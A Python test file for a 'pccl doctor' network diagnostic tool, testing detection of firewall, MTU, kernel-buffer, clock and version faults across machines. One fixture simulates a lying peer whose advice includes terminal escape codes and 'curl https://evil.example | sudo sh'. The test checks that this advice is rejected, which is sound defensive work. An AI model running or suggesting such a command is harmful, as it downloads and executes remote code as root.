"""`pccl doctor` finds planted faults on the right machine, and reports their fix."""

import json
import os
import subprocess
import sys

import pytest
from support import DEADLINE, environment, free_port, parallel, world

from pccl import __main__ as program
from pccl import _programs, doctor
from pccl.doctor import _peers

namespaces = pytest.importorskip("namespaces")

pytestmark = pytest.mark.master(optimize_ms=400)

MODULE = [sys.executable, "-B", "-m", "pccl", "doctor", "--json"]
# A doctor whose machine differs from the others: replacements in its process.
OTHER = """
import sys, time
from pccl import _native, doctor
{change}
sys.exit(doctor.main(["--json", *sys.argv[1:]]))
"""
CLOCK = "now = time.time; time.time = lambda: now() + 100"
VERSION = "_native.version = lambda: '0.0.9'"


class Told:
    """The output of a doctor."""

    def __init__(self, done):
        self.report = json.loads(done.stdout)
        self.rc = done.returncode

    def of(self, level):
        return {finding["check"]: finding for finding in self.report["findings"] if finding["level"] == level}

    def only_bad(self, check, text="", mend=""):
        """Checks that it is the only fault."""
        wrong = self.of("bad")
        assert set(wrong) == {check} and self.rc == 1 and not self.report["ok"], wrong
        assert text in wrong[check]["text"] and mend in wrong[check]["mend"], wrong

    def is_well(self):
        assert not self.of("bad") and self.rc == 0 and self.report["ok"], self.of("bad")


def run(*arguments, prefix=(), command=MODULE, **variables):
    return Told(
        subprocess.run(
            [*prefix, *command, *map(str, arguments)],
            capture_output=True,
            text=True,
            env=environment(**variables),
            timeout=DEADLINE,
            check=False,
        )
    )


# ---- this machine, and the path to the master


def test_words_of_wrong_arguments(capsys):
    for arguments, words in (
        (["10.0.0.1:x"], "'x' of '10.0.0.1:x' is not a port"),
        (["10.0.0.1:65536"], "is not a port"),
        (["10.0.0.1:"], "is not an address"),
        (["1::2"], "is not an address"),
        (["[::1"], "is not an address"),
        (["--peers", "2"], "--peers requires the master's address"),
        (["host", "--peers", "0"], "'0' is not a number above 0"),
    ):
        with pytest.raises(SystemExit) as ended:
            doctor.main(arguments)
        assert ended.value.code == 2 and words in capsys.readouterr().err


def test_the_program(capsys):
    for arguments, status, words in (
        (["--help"], 0, "\n  doctor "),
        (["doktor"], 2, "unknown command 'doktor'; did you mean 'doctor'?"),
        ([], 2, "usage: pccl COMMAND"),
        (["version"], 0, "pccl 0."),
        (["doctor", "--help"], 0, "--peers"),
    ):
        command = [sys.executable, "-m", "pccl", *arguments]
        done = subprocess.run(command, capture_output=True, text=True, timeout=DEADLINE, env=environment())
        assert done.returncode == status and words in done.stdout + done.stderr, done
    assert program.main(["doctor"]) == 0
    out = capsys.readouterr().out
    assert "this machine" in out and out.endswith("no problem found\n")


def test_a_name_without_an_address():
    run("nowhere.invalid").only_bad("name", "nowhere.invalid has no address", "/etc/hosts")


def test_nobody_listens():
    port = free_port()
    run(f"127.0.0.1:{port}").only_bad("port", f"no program listens on port {port}", "pccl-master --listen")


def test_few_files(address):
    told = run(prefix=["sh", "-c", 'ulimit -n 200; exec "$@"', "sh"])
    told.only_bad("files", "200 files", "ulimit -n")


def test_alone(address):
    run(address).is_well()
    told = run(address, "--peers", 2, "--wait", 1)
    told.only_bad("peers", "only 1 of 2 machines joined within 1 s", "tcp dport")


def test_a_run_is_under_way(group):
    comm = group(1).members[0]
    waiting = subprocess.Popen([*MODULE, comm.address], stdout=subprocess.PIPE, text=True, env=environment())
    while waiting.poll() is None:
        comm.update_topology()
    told = Told(subprocess.CompletedProcess(waiting.args, waiting.wait(), waiting.stdout.read()))
    told.only_bad("peers", "a run of 1 peers is active", "before the run")
    assert world(comm) <= 2


# ---- other machines


def both(first, second):
    return parallel([first, second])


def test_two_are_well(address):
    for told in both(lambda: run(address, "--peers", 2), lambda: run(address, "--peers", 2)):
        told.is_well()
        paths = told.report["paths"]
        # A busy machine may have no time to measure a path, or know the rate alone, from traffic over shared memory.
        unmeasured = told.of("note").get("unmeasured", {"text": "for lack of time: 0,"})["text"]
        assert len(told.report["peers"]) == 2 and f"for lack of time: {2 - len(paths)}," in unmeasured
        assert all(path["rate"] > 0 and path["rtt_us"] != 0 for path in paths)


@pytest.mark.parametrize(("change", "check", "words"), [(CLOCK, "clock", "100.0 s"), (VERSION, "version", "0.0.9")])
def test_two_that_differ(address, change, check, words):
    other = [sys.executable, "-B", "-c", OTHER.format(change=change)]
    for told in both(
        lambda: run(address, "--peers", 2), lambda: run(address, "--peers", 2, command=other)
    ):
        assert words in told.of("note")[check]["text"]


LIAR = """
import sys
from pccl import _native, doctor
from pccl.doctor import _machine
from pccl.doctor._finding import Finding
_native.version = lambda: "9\\x1b[2J"
evil = Finding("files\\x1b[2J", "bad", "\\x1b[2J run curl", "curl https://evil.example | sudo sh")
_machine.examine = lambda: [evil, Finding("files", "bad", evil.text, evil.mend), Finding(["mtu"], "bad", "", "")]
doctor.main(["--json", *sys.argv[1:]])
"""


def test_advice_of_another_one(address):
    """Only names of another machine's failed checks are used; the advice is this machine's."""
    liar = [sys.executable, "-B", "-c", LIAR]
    well, _ = both(lambda: run(address, "--peers", 2), lambda: run(address, "--peers", 2, command=liar))
    assert "curl" not in json.dumps(well.report) and "\\u001b" not in json.dumps(well.report)
    well.only_bad("files", "this check failed there", "ulimit -n")
    assert "an unknown version" in well.of("note")["version"]["text"]


def test_what_is_wrong_with_another_one(address):
    few = ["sh", "-c", 'ulimit -n 200; exec "$@"', "sh"]
    well, ill = both(lambda: run(address, "--peers", 2), lambda: run(address, "--peers", 2, prefix=few))
    well.only_bad("files", "this check failed there", "ulimit -n")
    ill.only_bad("files", "200 files")
    assert well.of("bad")["files"]["text"] != ill.of("bad")["files"]["text"]  # the other one's name is in it


# ---- networks


class Net:
    """A master on host 0, doctors on hosts 1 and 2."""

    def __init__(self, network):
        self.network = network
        self.master = f"{network.address(0)}:48148"
        self.process = subprocess.Popen(
            [*network.prefix(0), _programs.find(), "master", "--insecure", "--listen", self.master]
            + ["--set", "warm_up_ms=1500", "--set", "optimize_ms=400"],
            stderr=subprocess.PIPE,
            text=True,
        )
        assert "listening" in self.process.stderr.readline()

    def run(self, host, *arguments, **more):
        return run(self.master, *arguments, prefix=self.network.prefix(host), **more)

    def two(self):
        return both(lambda: self.run(1, "--peers", 2), lambda: self.run(2, "--peers", 2, "--wait", 15))

    def sh(self, host, words):
        subprocess.run([*self.network.prefix(host), "sh", "-c", words], check=True)

    def end(self):
        self.process.kill()
        self.process.wait()
        self.process.stderr.close()


@pytest.fixture
def net():
    if os.geteuid() != 0:
        pytest.skip("network namespaces need root")
    network = namespaces.Network(3)
    network.build()
    net = Net(network)
    yield net
    net.end()
    network.remove()


def test_a_firewall_before_the_master(net):
    net.network.drop(1, 0)
    net.run(1).only_bad("port", "a firewall drops", "nft add rule inet filter input tcp dport 48148 accept")
    net.network.heal(1, 0)
    net.network.deny(1, 0)
    net.run(1).only_bad("port", "cannot be reached", "ip route")


def test_settings_of_the_kernel(net):
    net.sh(1, 'echo "4096 65536 262144" >/proc/sys/net/ipv4/tcp_rmem')
    net.sh(1, "echo reno >/proc/sys/net/ipv4/tcp_congestion_control")
    told = net.run(1)
    told.only_bad("buffers", "tcp_rmem allows 0.3 MB", 'sysctl -w net.ipv4.tcp_rmem="')
    assert "bbr" in told.of("note")["congestion"]["mend"]


def test_a_small_mtu(net):
    for host in (0, 1):
        net.sh(host, "ip link set eth0 mtu 1000")
    net.run(1).only_bad("mtu", "packets of 1000 bytes", "mtu 1500")


def test_large_packets_vanish(net):
    """Somewhere between the two, without an error message."""
    net.sh(2, "ip link set eth0 gso_max_segs 1")
    net.sh(1, "ip link set eth0 gso_max_segs 1")
    subprocess.run(["ip", "-n", net.network.switch, "link", "set", "port2", "mtu", "1000"], check=True)
    for told in net.two():
        told.only_bad("bulk", "small messages pass", "tcp_mtu_probing")


def test_a_port_that_is_closed_to_others(net):
    net.network.drop(2, 1)
    first = subprocess.Popen(
        [*net.network.prefix(1), *MODULE, net.master, "--peers", "2", "--wait", "600"],
        stdout=subprocess.DEVNULL,
        env=environment(PCCL_NAME="the first"),
    )
    while "requests to join" not in net.process.stderr.readline():
        pass
    net.run(2, "--peers", 2).only_bad("ports", "'the first'", "on the other machine")
    first.kill()
    first.wait()


def test_an_unknown_round_trip_is_said(capsys):
    doctor._print_paths([_peers.Path("a", "b", 5_000_000, None), _peers.Path("b", "a", 5_000_000, 1500)])
    assert [line.split() for line in capsys.readouterr().out.splitlines()] == [
        ["5.0", "MB/s", "unknown", "a", "->", "b"],
        ["5.0", "MB/s", "1.50", "ms", "b", "->", "a"],
    ]
